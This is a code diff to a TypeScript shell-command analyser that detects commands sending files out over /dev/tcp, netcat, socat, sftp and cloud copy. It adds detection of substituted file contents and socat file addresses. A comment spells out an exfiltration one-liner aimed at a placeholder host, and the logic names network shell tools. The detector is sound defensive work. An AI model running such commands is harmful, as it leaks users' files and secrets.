@@ -198,7 +198,7 @@ export function sendsOf(cmd: ShellCommand): Send[] {
   const hasStdinData = cmd.pipeline !== null && cmd.stage > 0;
   for (const r of cmd.redirects) {
     const m = DEV_NET.exec(r.target);
-    if (m && /^\d*(?:>|>>|>&|&>|<>)$/.test(r.op)) out.push({ host: m[1]!.toLowerCase(), files: inputs, stdin: hasStdinData, channel: 'dev-tcp' });
+    if (m && /^\d*(?:>|>>|>&|&>|<>)$/.test(r.op)) out.push({ host: m[1]!.toLowerCase(), files: [...inputs, ...substitutedFiles(cmd)], stdin: hasStdinData, channel: 'dev-tcp' });
   }
   const name = cmd.name;
   if (name === 'curl' || name === 'wget') {
@@ -211,7 +211,9 @@ export function sendsOf(cmd: ShellCommand): Send[] {
   } else if (NETCATS.has(name)) {
     const listen = args.some((a) => /^-[a-zA-Z]*l/.test(a) || a === '--listen');
     const host = name === 'socat' ? socatHost(args) : args.find((a) => !a.startsWith('-') && !/^\d+$/.test(a)) ?? null;
-    if (!listen && host) out.push({ host: host.toLowerCase(), files: inputs, stdin: hasStdinData, channel: 'netcat' });
+    // socat's file addresses (`FILE:path`, `OPEN:path`, `GOPEN:path`: socat(1) "ADDRESS TYPES") are read and sent
+    const opened = name === 'socat' ? args.filter((a) => /^(?:file|open|gopen):[^,]/i.test(a)).map((a) => a.replace(/^[a-z]+:/i, '').replace(/,.*$/, '')) : [];
+    if (!listen && host) out.push({ host: host.toLowerCase(), files: [...inputs, ...opened], stdin: hasStdinData, channel: 'netcat' });
   } else if (name === 'sftp' && cmd.stdin !== null && /(?:^|\n)\s*(?:put|mput|reput)\s+\S+/.test(cmd.stdin)) {
     // `sftp host <<< 'put FILE'`: a batch fed on stdin uploads
     const host = remoteOf(args.filter((a) => !a.startsWith('-')).pop() ?? '') ?? args.find((a) => !a.startsWith('-'))?.replace(/^[^@]*@/, '') ?? '?';
@@ -314,6 +316,20 @@ function cloudCopySend(cmd: ShellCommand): Send | null {
   const stdin = ops.includes('-') && cmd.pipeline !== null && cmd.stage > 0;
   if (!sources.length && !stdin) return null;
   return { host: m[1]!.toLowerCase(), files: sources, stdin, channel: cmd.name === 'rclone' ? 'rclone' : 'cloud' };
+}
+
+/** Files whose whole contents a command's words substitute: `"$(<F)"`, `"$(cat F)"` (`echo "$(<F)" >
+ * /dev/tcp/HOST/PORT` sends F). */
+function substitutedFiles(cmd: ShellCommand): string[] {
+  const out: string[] = [];
+  for (const w of cmd.words) for (const sub of w.subs) {
+    if (sub.kind !== 'command') continue;
+    for (const c of sub.commands) {
+      if (c.argv.length === 0) out.push(...c.redirects.filter((r) => /^0?<$/.test(r.op) && r.target).map((r) => r.target));
+      else if (c.name === 'cat') out.push(...c.argv.slice(1).filter((a) => !a.startsWith('-')));
+    }
+  }
+  return out;
 }
 
 /** The host of socat's network address (`TCP:host:port`, `TCP4:…`, `OPENSSL:…`, `UDP:…`). */
